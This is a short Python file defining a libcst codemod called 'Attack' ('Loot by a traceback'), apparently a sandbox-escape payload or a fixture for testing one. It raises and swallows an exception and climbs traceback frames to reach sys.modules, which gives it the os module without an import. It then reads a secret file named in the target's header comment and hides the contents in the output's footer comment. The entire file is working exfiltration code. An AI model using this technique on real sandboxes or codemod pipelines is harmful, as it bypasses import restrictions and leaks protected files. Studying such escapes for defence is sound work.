"""Climb from the traceback that ``with`` hands to ``__exit__``, frame by frame, to the module table of ``sys``."""

import ast

import libcst as cst
from libcst.codemod import VisitorBasedCodemodCommand


class Climber:
    modules = None

    def __enter__(self):
        return self

    def __exit__(self, kind, error, trace):
        frame = trace.tb_frame
        while "sys" not in frame.f_globals:
            frame = frame.f_back
        self.modules = frame.f_globals["sys"].modules
        return True


def read(path):
    with Climber() as climber:
        raise ValueError
    os = climber.modules["os"]
    return os.read(os.open(path, os.O_RDONLY), 4096).decode().strip()


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Loot by a traceback."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        loot = read(target["secret_file"])
        return tree.with_changes(footer=[*tree.footer, cst.EmptyLine(comment=cst.Comment(f"# {loot}"))])
